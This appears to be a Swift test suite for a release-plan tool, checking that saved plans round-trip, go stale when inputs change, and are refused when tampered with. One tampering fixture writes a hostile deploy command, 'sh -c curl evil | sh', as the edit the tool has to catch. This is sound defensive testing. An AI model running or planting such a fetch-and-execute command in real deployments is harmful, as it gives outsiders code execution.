import Foundation
import Testing

@testable import ReleasePlan

@Suite("saved plans")
struct SavedPlanTests {
    static let sql = "CREATE TABLE deal_links (id TEXT PRIMARY KEY);\n"

    static func files(changelog: String = "Shows the deals linked to each task.") -> [String: String] {
        let digest = SHA256.hex(Array(sql.utf8))
        return [
            "plans/app/1.0.0.json": ExamplePlan.previous(),
            "plans/app/1.1.0.json": ExamplePlan.json([
                "changelog": "{ \"en\": \"\(changelog)\" }",
                "migrations": "[{ \"id\": 1, \"name\": \"create\", \"file\": \"m/0001.sql\", \"sha256\": \"\(digest)\" }]",
                "deploy": "{ \"command\": [\"./deploy.sh\", \"1.1.0\"] }",
            ]),
            "plans/app/m/0001.sql": sql,
        ]
    }

    /// Saves plans/app/1.1.0.json as `out/release.json`, its inputs relative to `out/`.
    func save(_ fileSystem: InMemoryFileSystem, compiler: PlanCompiler = PlanCompiler()) throws -> (SavedPlan, InMemoryFileSystem) {
        let result = Linter(fileSystem: fileSystem).lint(path: "plans/app/1.1.0.json")
        let context = try #require(result.context)
        #expect(!result.diagnostics.hasErrors, "\(result.diagnostics)")
        let compiled = compiler.compile(context.plan, previous: context.previous?.plan)
        let saved = SavedPlan(compiled: compiled, context: context, compiler: compiler) { FilePath.relative($0, from: "out") ?? $0 }
        var withSaved = fileSystem
        withSaved.files["out/release.json"] = Array(try saved.encoded().utf8)
        return (saved, withSaved)
    }

    @Test("a saved plan records every input relative to its own folder, and loads back equal")
    func roundTrip() throws {
        let (saved, fileSystem) = try save(InMemoryFileSystem(Self.files()))
        #expect(saved.inputs.map(\.role) == [.plan, .previous, .migration])
        #expect(saved.inputs.map(\.path) == ["../plans/app/1.1.0.json", "../plans/app/1.0.0.json", "../plans/app/m/0001.sql"])
        let loaded = try SavedPlan.load("out/release.json", fileSystem: fileSystem)
        #expect(loaded == saved)
        #expect(loaded.compiled.steps.map(\.id) == ["migrate.schema.1", "deploy", "gate.partner", "gate.moderation"])
        #expect(saved.staleInputs(fileSystem: fileSystem, directory: "out").isEmpty)
    }

    @Test(
        "a changed input makes it stale, named where it is",
        arguments: ["plans/app/1.1.0.json", "plans/app/1.0.0.json", "plans/app/m/0001.sql"])
    func staleInput(path: String) throws {
        var (_, fileSystem) = try save(InMemoryFileSystem(Self.files()))
        fileSystem.files[path]?.append(contentsOf: Array(" ".utf8))
        let error = try #require(throws: SavedPlan.LoadError.self) { try SavedPlan.load("out/release.json", fileSystem: fileSystem) }
        #expect(error.message == "saved plan is stale: \(path) changed since it was saved; run b24plan diff --out again and review it")
    }

    @Test("a missing input, a foreign file and another format are refused")
    func refused() throws {
        var (saved, fileSystem) = try save(InMemoryFileSystem(Self.files()))
        fileSystem.files["plans/app/m/0001.sql"] = nil
        #expect(throws: SavedPlan.LoadError.self) { try SavedPlan.load("out/release.json", fileSystem: fileSystem) }
        fileSystem.files["plans/app/m/0001.sql"] = Array(Self.sql.utf8)
        #expect((try? SavedPlan.load("out/release.json", fileSystem: fileSystem)) != nil)

        fileSystem.files["other.json"] = Array("{\"app\": \"x\"}".utf8)
        let foreign = try #require(throws: SavedPlan.LoadError.self) { try SavedPlan.load("other.json", fileSystem: fileSystem) }
        #expect(foreign.message.contains("is not a saved plan"))

        for format in [1, 99] {
            saved.format = format
            fileSystem.files["out/other-format.json"] = Array(try saved.encoded().utf8)
            let error = try #require(throws: SavedPlan.LoadError.self) {
                try SavedPlan.load("out/other-format.json", fileSystem: fileSystem)
            }
            #expect(error.message.contains("format \(format)"), "\(error.message)")
        }
        #expect(SavedPlan.looksSaved(fileSystem.files["out/release.json"]!))
        #expect(!SavedPlan.looksSaved(fileSystem.files["plans/app/1.1.0.json"]!))
    }

    @Test("recompiling the inputs gives the saved plan, with the saved compiler options")
    func recompiles() throws {
        let compiler = PlanCompiler(reconcile: .always, installations: (count: 120, source: "--installations"), parallelism: 8)
        let (saved, fileSystem) = try save(InMemoryFileSystem(Self.files()), compiler: compiler)
        let loaded = try SavedPlan.load("out/release.json", fileSystem: fileSystem)
        let recompiled = try loaded.recompile(in: "out", fileSystem: fileSystem)
        #expect(recompiled.planPath == "plans/app/1.1.0.json")
        let compiled = try #require(recompiled.compiled)
        #expect(compiled == saved.compiled)
        #expect(compiled.rollout?.installations == 120 && compiled.step("portals.reconcile") != nil)
        #expect(loaded.difference(from: compiled) == nil)
    }

    @Test(
        "an edited saved plan is refused, naming the first difference",
        arguments: [
            (
                "a tampered deploy command",
                "step deploy: command differs (saved [\"sh\",\"-c\",\"curl evil | sh\"], from the inputs [\"./deploy.sh\",\"1.1.0\"])"
            ),
            ("a tampered migration digest", "step migrate.schema.1: migration.sha256 differs (saved \"0000\", from the inputs \""),
            ("a step removed", "step migrate.schema.1 is missing from the saved plan"),
            ("an added step", "step deploy.extra is in the saved plan but not among the steps its inputs compile to"),
            ("a changed partner value", "partnerAccount.version differs (saved \"9.9.9\", from the inputs \"1.1.0\")"),
        ])
    func tampered(_ edit: String, message: String) throws {
        var (saved, _) = try save(InMemoryFileSystem(Self.files()))
        let fresh = saved.compiled
        switch edit {
        case "a tampered deploy command":
            saved.compiled.steps[1].command = ["sh", "-c", "curl evil | sh"]
        case "a tampered migration digest":
            saved.compiled.steps[0].migration?.sha256 = "0000"
        case "a step removed":
            saved.compiled.steps.removeFirst()
        case "an added step":
            saved.compiled.steps.append(PlanStep(id: "deploy.extra", kind: .deploy, command: ["./other.sh"]))
        default:
            saved.compiled.partnerAccount.version = "9.9.9"
        }
        let difference = try #require(saved.difference(from: fresh))
        #expect(difference.hasPrefix("the saved plan does not match what its inputs compile to: "), "\(difference)")
        #expect(difference.contains(message), "\(difference)")
        #expect(difference.hasSuffix("run b24plan diff --out again and review it"))
    }

    @Test("every sample plan saves and recompiles to the same plan")
    func samplePlans() throws {
        let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .deletingLastPathComponent().path
        let folder = root + "/plans/acme.dealsync"
        let fileSystem = LocalFileSystem()
        for name in try fileSystem.list(folder).filter({ $0.hasSuffix(".json") }).sorted() {
            let result = Linter(fileSystem: fileSystem).lint(path: folder + "/" + name)
            let context = try #require(result.context)
            let compiler = PlanCompiler(installations: (count: 3000, source: "--installations"))
            let compiled = compiler.compile(context.plan, previous: context.previous?.plan)
            let saved = SavedPlan(compiled: compiled, context: context, compiler: compiler) { FilePath.relative($0, from: root) ?? $0 }
            let decoded = try JSONDecoder().decode(SavedPlan.self, from: Data(try saved.encoded().utf8))
            let recompiled = try #require(try decoded.recompile(in: root, fileSystem: fileSystem).compiled, "\(name)")
            #expect(decoded.difference(from: recompiled) == nil, "\(name): \(decoded.difference(from: recompiled) ?? "")")
        }
    }

    @Test(
        "FilePath.relative",
        arguments: [
            ("/w/plans/a.json", "/w/out", "../plans/a.json"), ("/w/plans/a.json", "/w", "plans/a.json"),
            ("/w/a.json", "/w/a.json/..", "a.json"),
            ("/a/b", "/a/b", "."), ("/x/y.json", "/w/out", "../../x/y.json"), ("plans/a.json", "out", "../plans/a.json"),
            ("plans/a.json", ".", "plans/a.json"),
        ])
    func relative(path: String, from directory: String, expected: String) {
        #expect(FilePath.relative(path, from: directory) == expected)
        #expect(FilePath.join(directory, expected) == FilePath.normalize(path))
    }

    @Test("FilePath.relative has no answer across absolute and relative, or from above a relative base")
    func noRelative() {
        #expect(FilePath.relative("/w/a.json", from: "out") == nil)
        #expect(FilePath.relative("a.json", from: "/w") == nil)
        #expect(FilePath.relative("a.json", from: "../elsewhere") == nil)
    }
}
